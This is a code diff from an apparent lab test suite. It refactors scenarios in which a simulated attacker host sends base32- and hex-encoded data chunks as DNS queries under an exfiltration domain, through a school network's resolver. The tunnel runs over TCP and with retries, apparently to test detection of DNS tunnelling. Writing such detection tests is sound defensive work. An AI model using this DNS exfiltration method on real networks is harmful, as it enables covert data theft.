@@ -182,40 +182,57 @@ def ddns_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
+def _dns_sent(
+    lan: SchoolLan,
+    name: str,
+    count: int,
+    extra: list[str],
+    seconds: float,
+    what: str,
+    **notes: object,
+) -> Outcome:
+    """``count`` queries of data chunks under EXFIL from this module's dns-send tool on the
+    attacker (options ``extra``), through the school resolver, bounded by ``seconds``."""
+    args = ["dns-send", "--server", lan.srv.ip, "--domain", EXFIL, "--count", str(count)]
+    args += extra
+    with _Authority(lan, TUNNEL_DOMAIN):
+        out = _bounded(lan, lan.attacker.ns, seconds, *_me(*args))
+    return Outcome(
+        name,
+        ("dns_tunnel",),
+        "python -m tests.lab.scenarios_dns_l2 " + " ".join(args),
+        what,
+        lan.attacker,
+        "python3",
+        notes={**notes, "output_tail": out[-200:]},
+    )
+
+
 def dns_tcp_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
     """TXT queries carrying 60-character base32 chunks over DNS on TCP, several on each
     connection, through the school resolver."""
-    args = ["dns-send", "--server", lan.srv.ip, "--domain", EXFIL, "--count", "60"]
-    args += ["--tcp", "--per-connection", "6", "--qtype", "16", "--pause", "0.1"]
-    with _Authority(lan, TUNNEL_DOMAIN):
-        out = _bounded(lan, lan.attacker.ns, 30, *_me(*args))
-    return Outcome(
+    return _dns_sent(
+        lan,
         "dns_tcp_tunnel",
-        ("dns_tunnel",),
-        "python -m tests.lab.scenarios_dns_l2 " + " ".join(args),
+        60,
+        ["--tcp", "--per-connection", "6", "--qtype", "16", "--pause", "0.1"],
+        30,
         f"60 TXT queries of 60-character base32 chunks under {EXFIL} over DNS on TCP (six "
         "on each connection, each answered before the next), through the school resolver",
-        lan.attacker,
-        "python3",
-        notes={"output_tail": out[-200:]},
     )
 
 
 def dns_retries(lan: SchoolLan, small: bool = False) -> Outcome:
     """A client asking every name twice: 120 hex names of 32 characters, 240 queries."""
-    args = ["dns-send", "--server", lan.srv.ip, "--domain", EXFIL, "--count", "120"]
-    args += ["--size", "32", "--codec", "hex", "--repeat", "2", "--pause", "0.05"]
-    with _Authority(lan, TUNNEL_DOMAIN):
-        out = _bounded(lan, lan.attacker.ns, 40, *_me(*args))
-    return Outcome(
+    return _dns_sent(
+        lan,
         "dns_retries",
-        ("dns_tunnel",),
-        "python -m tests.lab.scenarios_dns_l2 " + " ".join(args),
+        120,
+        ["--size", "32", "--codec", "hex", "--repeat", "2", "--pause", "0.05"],
+        40,
         f"120 different 32-character hex names under {EXFIL}, each asked twice (a retry), "
         "A queries through the school resolver: 120 different names, 240 queries",
-        lan.attacker,
-        "python3",
-        notes={"unique_names": 120, "output_tail": out[-200:]},
+        unique_names=120,
     )
 
 
